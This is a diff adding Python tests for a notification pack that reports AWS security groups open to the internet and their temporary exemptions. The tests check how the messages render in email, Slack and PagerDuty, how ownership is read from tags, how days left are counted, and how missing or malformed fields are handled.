+    closed_but, closed = (state._asdict() for state in (states.CLOSING.partly, states.CLOSING.done))
+    assert [each["c7n:state-ingress"] for each in SAMPLE["resources"]] == [closed, closed_but, closed]
+
+
+@pytest.mark.parametrize(
+    ("annotation", "edge"),
+    [({"c7n:left-ingress": ["x"]}, "bad"), ({"c7n:lacking-ingress": ["x"]}, "bad"), ({}, "good")],
+)
+def test_the_edge_of_a_mail_is_as_bad_as_its_worst_group(annotation, edge):
+    """A group that needs an action makes the whole mail red."""
+    assert f'class="edge {edge}"' in rendered(HTML, resources=[group(2), group(**annotation)])
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_who_opened_it(template):
+    """Where it is known who opened a group, the message quotes it; the links that a tool's name may hold are broken."""
+    said = "Opened by jane@example.com (role Admin) on 2026-09-21 at 14:12 UTC from 198.51.100.7 with evil.example/1.0."
+    told = rendered(template, resources=[group(**{"c7n:opened-ingress": said})])
+    quoted = said.replace("evil.example", "evil[.]example")
+    assert (f'"{quoted}"' if template == TEXT else f"&ldquo;{quoted}&rdquo;") in told
+    assert "Opened by" not in rendered(template, resources=[group()])
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+@pytest.mark.parametrize(("until", "told"), [({"hours": 36}, "36 hours"), ({"days": 3}, "3 days")])
+@pytest.mark.parametrize("kind", ["mark-for-op", "mark-each-for-op"])
+def test_notice_says_how_long_there_is(template, until, told, kind):
+    """A notice says when the groups will be closed, and what keeps one open; it cannot be taken for a change."""
+    noticed = group(**{"c7n:replaced-ingress": [record(how="preview")]})
+    policy = {
+        "name": "notice",
+        "actions": ["replace-ingress", {"type": kind, "op": "replace-ingress", **until}],
+    }
+    message = rendered(template, resources=[noticed], policy=policy)
+    assert f"They will be closed in {told}, unless" in message
+    assert "open-ingress-until" in message
+    assert "If this was wrong" not in message
+
+
+@pytest.mark.parametrize(
+    ("tag", "told"),
+    [
+        (("aws:cloudformation:stack-name", "web"), 'Made by CloudFormation stack "web": fix it there too'),
+        (("ManagedBy", "terraform"), 'Made by Terraform (tag ManagedBy = "terraform"): fix it there too'),
+        (("terraform-workspace", "prod"), 'Made by Terraform (tag terraform-workspace = "prod"): fix it there too'),
+        (("tool", "Pulumi"), 'Made by Pulumi (tag tool = "Pulumi"): fix it there too'),
+        (("kubernetes.io/cluster/shop", "owned"), "Made by Kubernetes (tag kubernetes[.]io/cluster/shop): fix it"),
+        (("elbv2.k8s.aws/cluster", "shop"), "Made by Kubernetes (tag elbv2[.]k8s[.]aws/cluster): fix it"),
+        (("Owner", "jane"), 'Owner: "jane"'),
+        (("SupportTeam", "payments"), 'Owner: SupportTeam = "payments"'),
+        (("env", "prod"), 'Owner: no tag says, but: env = "prod"'),
+    ],
+)
+def test_tags_tell_who_owns_a_group_and_what_opens_it_again(tag, told):
+    """Owner and tool are read from the tags that people and tools leave."""
+    assert told in rendered(TEXT, resources=[group(Tags=[{"Key": tag[0], "Value": tag[1]}])])
+
+
+@pytest.mark.parametrize("missing", ["GroupName", "VpcId", "Tags", "c7n:failed-ingress", "c7n:replaced-ingress"])
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_what_a_group_lacks_keeps_nothing_from_being_told(template, missing):
+    """A group without a name, a VPC, tags or changes is told all the same, absent or null."""
+    lacking = group()
+    del lacking[missing]
+    for resource in (lacking, lacking | {missing: None}):
+        assert resource["GroupId"] in rendered(template, resources=[resource])
+
+
+def many_groups():
+    """Give the groups of a long run: 500, of which three failed, one is another account's and one has 60 rules."""
+    groups = [group(n) for n in range(500)]
+    for n in (100, 300, 499):
+        groups[n]["c7n:failed-ingress"] = ["UnauthorizedOperation"]
+    groups[200]["c7n:skipped-ingress"] = "Account 999999999999 owns this group."
+    groups[0]["c7n:replaced-ingress"] = [record()] * 60
+    return groups
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_a_long_run_is_summed_up_with_the_worst_first(template):
+    """Of 500 groups those that are not closed come first, then the action's first; what is left out is counted."""
+    told = rendered(template, resources=many_groups())
+    places = [told.index(f"sg-{n:017x}") for n in (100, 300, 499, 0, 1)]
+    assert places == sorted(places)
+    assert "3 groups" in told
+    assert "and 48 more changes" in told
+    assert "and 390 more groups" in told
+
+
+@pytest.mark.parametrize(("template", "limit"), [(TEXT, 20_000), (HTML, 102_400)])
+def test_a_long_run_is_short_enough_to_be_read(template, limit):
+    """500 groups make a text of a few pages, and an HTML that Gmail does not cut off."""
+    assert len(rendered(template, resources=many_groups()).encode()) < limit
+
+
+def worst_group():
+    """Give a group on which everything is as long as it can be, in four bytes a character."""
+    long = "\U0001f512" * 300
+    return group(
+        Tags=[{"Key": f"owner{n}{long}", "Value": long} for n in range(50)],
+        **{
+            "GroupName": long,
+            "c7n:replaced-ingress": [record(description=long)] * 120,
+            "c7n:failed-ingress": [long * 10] * 120,
+            "c7n:left-ingress": [long * 10] * 120,
+            "c7n:skipped-ingress": long * 10,
+            "c7n:opened-ingress": long * 10,
+            "c7n:reopened-ingress": long * 10,
+            "c7n:cut-ingress": long * 10,
+            "c7n:behind-ingress": {"exposure": "internet", "behind": [long] * 120},
+            "c7n:lacking-ingress": [long * 10] * 120,
+            "c7n:managed-ingress": {"by": long, "mend": long * 10},
+            "c7n:undo-ingress": ["aws " + "x" * 590] * 120,
+            "MatchedIpPermissions": DIGEST["resources"][0]["MatchedIpPermissions"] * 60,
+        },
+    )
+
+
+@for_slack
+@pytest.mark.parametrize("number", [0, 1, 2, 13, 500])
+def test_no_run_makes_a_message_that_slack_refuses(template, number):
+    """However many groups there are, and with everything as long as it can be, the message keeps Slack's rules."""
+    for each in (worst_group(), group()):
+        message = block_kit(template, resources=[each | {"GroupId": f"sg-{n}"} for n in range(number)])
+        assert broken_rules(message) == []
+        if number == 500:
+            assert "more groups" in "".join(text for _, text in texts(message["blocks"]))
+
+
+def test_pagerduty_is_told_of_every_group():
+    """Of 500 groups each makes its events, valid ones; nothing is summed up."""
+    sent = events(resources=[*many_groups(), worst_group()])
+    assert len({event["dedup_key"] for event in sent}) == 501 - 1  # the worst has the first one's id
+    assert [rule for event in sent for rule in broken_rules_of_pagerduty(event)] == []
+
+
+# -- the digest of exemptions
+
+
+def test_the_digest_as_people_read_it():
+    """It says which groups are open by exemption, the first to end first, how often renewed, what stands behind."""
+    assert rendered(DIGEST_TEXT).splitlines() == [
+        "2 security groups let the whole internet in, because somebody exempted them.",
+        "1 of them will be closed within a week.",
+        "",
+        "Account: shop-production (123456789012)",
+        "Region: eu-central-1",
+        "Policy: open-ingress-exempt",
+        "Time: 2026-09-21 14:13 UTC",
+        "",
+        "----------------------------------------",
+        'OPEN UNTIL 2026-09-24, 3 more days: sg-03a5c7e9b1d2f4068 "legacy-vpn"',
+        "",
+        "* UDP 500-501 from 0.0.0.0/1",
+        "* UDP 500-501 from 128.0.0.0/1",
+        '* all traffic from pl-0a1b2c3d4e5f60718, "all of our partners"',
+        "Behind it: nothing uses it",
+        'Made by CloudFormation stack "office-vpn"',
+        "Owner: no tag says",
+        "VPC: vpc-0d81f3b5a7c9e2046",
+        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-03a5c7e9b1d2f4068",
+        "",
+        "----------------------------------------",
+        'OPEN UNTIL 2026-12-14, 84 more days: sg-0c1f7a9e24b8d6035 "checkout-web"',
+        "Renewed 3 times in the last 90 days, last on 2026-09-15.",
+        "",
+        '* TCP 443 (HTTPS) from 0.0.0.0/0, "public shop"',
+        "* TCP 443 (HTTPS) from ::/0",
+        'Behind it: reachable from the internet, "2 addresses of the load balancer app/checkout"',
+        'Owner: team = "checkout", "jane.doe@example.com"',
+        "VPC: vpc-04be19d7c3a2f6810",
+        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0c1f7a9e24b8d6035",
+        "",
+        "----------------------------------------",
+        "WHAT YOU CAN DO",
+        "1. To close a group now, remove its tag open-ingress-until: the daily run closes it.",
+        "2. To keep it open for longer, set a later day, at most 90 days ahead.",
+        "3. To keep a port open for good, add it to public-ports, or the network to authorized, in the policies.",
+    ]
+
+
+@pytest.mark.parametrize("template", [DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
+def test_all_digests_tell_the_same(template):
+    """Groups, days, rules and what stands behind are in text, HTML and Slack's message."""
+    told = words(template)
+    for fact in ("sg-03a5c7e9b1d2f4068", "legacy-vpn", "2026-12-14", "84 more days", "128.0.0.0/1", "UDP 500-501"):
+        assert fact in told
+    for fact in ("pl-0a1b2c3d4e5f60718", "nothing uses it", "app/checkout", "jane.doe@example.com"):
+        assert fact in told or (fact, template) == ("jane.doe@example.com", DIGEST_SLACK)
+
+
+@examples(50)
+@given(dates(min_value=date(1970, 1, 2), max_value=date(2100, 1, 1)), dates(date(1900, 3, 1), date(2200, 1, 1)))
+def test_days_left_are_counted_right(today, until):
+    """For any two days, the digest counts what the calendar does."""
+    exempt = DIGEST["resources"][0] | {"Tags": [{"Key": "open-ingress-until", "Value": until.isoformat()}]}
+    start = (today - date(1970, 1, 1)).days * 86_400 + 60
+    told = rendered(DIGEST_TEXT, resources=[exempt], execution_start=start)
+    left = (until - today).days
+    assert f"OPEN UNTIL {until.isoformat()}, {left} more day{'s' * (left != 1)}: " in told
+
+
+@pytest.mark.parametrize(
+    ("permission", "told"),
+    [
+        ({"IpProtocol": "-1"}, "all traffic"),
+        ({"IpProtocol": "tcp", "FromPort": 0, "ToPort": 65535}, "TCP, all ports"),
+        ({"IpProtocol": "udp", "FromPort": 53, "ToPort": 53}, "UDP 53"),
+        ({"IpProtocol": "icmp", "FromPort": -1, "ToPort": -1}, "ICMP, all types"),
+        ({"IpProtocol": "icmp", "FromPort": 8, "ToPort": -1}, "ICMP type 8"),
+        ({"IpProtocol": "icmp", "FromPort": 3, "ToPort": 4}, "ICMP type 3 code 4"),
+        ({"IpProtocol": "icmpv6", "FromPort": 0, "ToPort": 0}, "ICMPv6 type 0 code 0"),
+        ({"IpProtocol": "50"}, "protocol 50"),
+    ],
+)
+def test_the_digest_names_each_kind_of_traffic(permission, told):
+    """Protocol and ports are told in plain words for every kind of rule."""
+    matched = [permission | {"IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
+    assert f"* {told} from 0.0.0.0/0" in rendered(DIGEST_TEXT, resources=[group(MatchedIpPermissions=matched)])
+
+
+@pytest.mark.parametrize("template", [DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
+@pytest.mark.parametrize("missing", ["GroupName", "VpcId", "Tags", "MatchedIpPermissions", "c7n:behind-ingress"])
+def test_what_an_exempt_group_lacks_keeps_nothing_from_being_told(template, missing):
+    """A group without a name, a VPC, tags or rules is told all the same, absent or null."""
+    lacking = copy.deepcopy(DIGEST["resources"][0])
+    del lacking[missing]
+    for resource in (lacking, lacking | {missing: None}):
+        assert resource["GroupId"] in rendered(template, resources=[resource])
+
+
+# -- looking at them
+
+
+def test_the_sample_message_is_shown(capsys):
+    """Without a picture to take, the command prints the plain texts."""
+    preview.main([])
+    assert capsys.readouterr().out == f"{rendered(TEXT)}\n{rendered(DIGEST_TEXT)}\n"
+
+
+def test_no_picture_without_a_browser(monkeypatch, tmp_path):
+    """Where there is no Chromium, the command says so and what to do."""
+    monkeypatch.setenv("CHROMIUM", "no-such-browser")
+    with pytest.raises(SystemExit, match="no Chromium found: install it, or name it: CHROMIUM="):
+        preview.main([str(tmp_path / "mail.png")])
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="the README's picture is taken by Chromium, which is not installed")
+def test_the_picture_for_the_readme(tmp_path):
+    """The command takes a picture that is small enough for a README."""
+    preview.main([str(tmp_path / "mail.png")])
+    picture = (tmp_path / "mail.png").read_bytes()
+    assert picture.startswith(b"\x89PNG")
+    assert 50_000 < len(picture) < 400_000
+
+
+BEHIND = {
+    "internet": ["2 addresses of the load balancer app/shop", "RDS orders-db"],
+    "private": ["3 instances"],
+    "unused": [],
+    "unknown": ["could not be looked up"],
+}
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+@pytest.mark.parametrize("exposure", BEHIND)
+def test_what_stands_behind_a_group(template, exposure):
+    """A message says what stands behind a group, and that VPC Block Public Access is on."""
+    told = {"exposure": exposure, "behind": BEHIND[exposure], "blocked": "The internet is kept out."}
+    shown = rendered(template, resources=[group(**{"c7n:behind-ingress": told})])
+    for phrase in (*BEHIND[exposure], "The internet is kept out."):
+        assert shown.count(phrase) == 1
+
+
+@pytest.mark.parametrize("template", [*MESSAGES, DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
+def test_how_much_stands_behind_a_group(template):
+    """Of thirty balancers some are named, and the others counted, in every message."""
+    balancers = [
+        {"NetworkInterfaceId": f"eni-{n}", "RequesterManaged": True, "Description": f"ELB net/b{n}/0123456789abcdef"}
+        for n in range(30)
+    ]
+    exempt = DIGEST["resources"][0]
+    told = {"c7n:behind-ingress": behind(balancers).told(), "c7n:failed-ingress": ["UnauthorizedOperation"]}
+    shown = words(template, resources=[exempt | group(**told)])
+    named, counted = set(re.findall(r"net/b\d+", shown)), re.findall(r"and (\d+) more\b", shown)
+    assert named
+    assert len(named) + sum(map(int, counted)) == 30
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML])
+def test_groups_stay_in_the_order_in_which_they_are_told(template):
+    """The action tells of the worst first, and so does the message, however many rules a group has."""
+    first, second = group(1), group(2, **{"c7n:replaced-ingress": [record(), record()]})
+    shown = rendered(template, resources=[first, second])
+    assert shown.index("group-1") < shown.index("group-2")
+
+
+@pytest.mark.parametrize("twin", ["", ".html", ".slack", ".pagerduty"])
+@pytest.mark.parametrize(
+    "broken",
+    [
+        {"c7n:undo-ingress": [None]},
+        {"c7n:todo-ingress": [5]},
+        {"c7n:behind-ingress": {"exposure": [1]}},
+        {"c7n:lacking-ingress": [None, 5]},
+        {"c7n:state-ingress": "closed"},
+        {"c7n:state-ingress": {"name": None, "rank": "x", "mood": 5}},
+    ],
+)
+def test_an_annotation_of_another_kind_keeps_nothing_from_being_told(twin, broken):
+    """What no action of the pack writes is left out, and the group is told."""
+    sample = preview.sample()
+    group = sample["resources"][0] | broken
+    assert group["GroupId"] in preview.render(sample | {"resources": [group]}, f"open-ingress{twin}")
